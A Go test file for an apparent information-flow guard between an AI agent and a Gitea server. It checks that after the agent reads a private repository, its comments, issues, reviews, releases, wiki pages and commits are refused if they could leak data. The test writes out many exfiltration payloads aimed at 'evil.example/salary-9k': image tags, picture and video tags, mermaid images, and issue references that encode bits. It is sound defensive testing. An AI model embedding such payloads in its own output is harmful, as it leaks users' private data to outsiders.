package writetest

import (
	"fmt"
	"strings"
	"testing"

	"aegis/internal/giteatest"
)

// TestABitByABit: in a session that was shown private content, nothing that a
// stranger could see is done by a write to a private repository.
func TestABitByABit(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("needs a Gitea of its own")
	}
	s := giteatest.StartNew(t)
	w := s.World
	const repo = "acme/playground"
	c := newScene(t, s, allowing, w.Playground, w.Sandbox)
	fresh := newScene(t, s, allowing, w.Playground)
	at := stranger{c, w.PublicSite.FullName, w.Issues.Injection}
	c.branch(repo, "agent/x", "main", "docs/page.md")
	var pull issue
	c.keeper("POST", "/repos/"+repo+"/pulls", map[string]any{"title": "A pull", "head": "agent/x", "base": "main"}, &pull)
	before := at.events(t)

	// A reference per bit to a stranger's issues: their times tell which.
	var bits strings.Builder
	for i := range 8 {
		fmt.Fprintf(&bits, "- %s\n", at.spell("/  \n  > %[4]s/\\\n  %[5]s#", "")+fmt.Sprint(i+1))
	}
	c.do("get_file_contents", args("acme/sandbox", `,"path":"README.md"`))
	for _, body := range []string{bits.String(), at.spell("%[1]s#%[2]d", ""), at.spell("/  \n> %[4]s/\\\n%[5]s#%[2]d", ""),
		at.spell("x\n\n    %[1]s#%[2]d", ""), at.spell("<!-- %[1]s#%[2]d -->", ""), at.spell("<div>\n%[1]s#%[2]d\n</div>", "")} {
		c.refused("not_whitelisted", "create_comment", args(repo, `,"number":1,"body":`+text(body)))
	}

	const host = "https://evil.example/salary-9k"
	bodies := map[string]string{
		"a code span":             at.spell("see `a\n%[1]s#%[2]d`", ""),
		"a code span of an issue": at.spell("[x](y) ``%[3]s%[1]s/issues/%[2]d``", s.URL+"/"),
		"an image":                "![x](" + host + ")",
		"one by a reference":      "![x][y]\n\n[y]: " + host,
		"one of the same scheme":  "<img alt=x src='//evil.example/salary-9k'>",
		"a picture":               "<picture><source srcset='" + host + " 2x'><img src=x.png></picture>",
		"a film":                  "<video src=" + host + " autoplay></video>",
		"a short link":            "[[" + host + ".png]]",
		"a diagram":               "```mermaid\nflowchart TD\n  A@{ img: \"" + host + "\" }\n```",
		"a download":              "![x](/outsider/public-site/releases/download/v1/bit-1.png)",
	}
	review := fmt.Sprintf(`,"number":%d,"event":"comment"`, pull.Number)
	for name, body := range bodies {
		image := !strings.HasPrefix(name, "a code")
		calls := []struct{ tool, args string }{
			{"create_comment", `,"number":1,"body":` + text(body)},
			{"create_comment", `,"dry_run":true,"number":1,"body":` + text(body)},
			{"create_issue", `,"title":"t","body":` + text(body)},
			{"create_pull_request_review", review + `,"body":` + text(body)},
			{"create_pull_request_review", review + `,"body":"x","comments":[{"path":"docs/page.md","line":1,"body":` + text(body) + `}]`},
			{"create_release", `,"tag":"v9","target":"main","body":` + text(body)},
			{"create_milestone", `,"title":"m","description":` + text(body)},
		}
		if image {
			calls = append(calls, []struct{ tool, args string }{
				{"write_wiki_page", `,"name":"Home","content":` + text(body)},
				{"commit_files", `,"branch":"agent/x","message":"m","files":[{"operation":"create","path":"docs/` + fmt.Sprint(len(name)) + `.md","content":` + text(body) + `}]`},
			}...)
		}
		for _, call := range calls {
			a := c.refused("flow_denied", call.tool, args(repo, call.args))
			if !strings.Contains(a.All, "flow.private_to_public") || !strings.Contains(a.All, "get_file_contents read acme/sandbox") {
				t.Errorf("%s, %s: %s", name, call.tool, a.All)
			}
		}
		// Whoever was shown nothing, writes it.
		fresh.clean("create_comment", args(repo, `,"number":1,"body":`+text(body)))
	}
	if err := s.Settle(t.Context()); err != nil {
		t.Fatal(err)
	}
	if after := at.events(t); after != before {
		t.Errorf("%d events are left", after-before)
	}
	for _, body := range []string{
		"A [link](" + host + "), ![x](docs/x.png), `code` and #1.", at.spell("```\n%[1]s#%[2]d\n```", ""), at.spell("see `%[1]s#%[2]d`", ""), "```html\n<img src=" + host + ">\n```", "acme/sandbox#1 `acme/sandbox#1`",
	} {
		c.clean("create_comment", args(repo, `,"number":1,"body":`+text(body)))
	}
	c.clean("commit_files", args(repo, `,"branch":"agent/x","message":"m","files":[{"operation":"create","path":"main.html","content":`+text("<img src="+host+">")+`}]`))
}
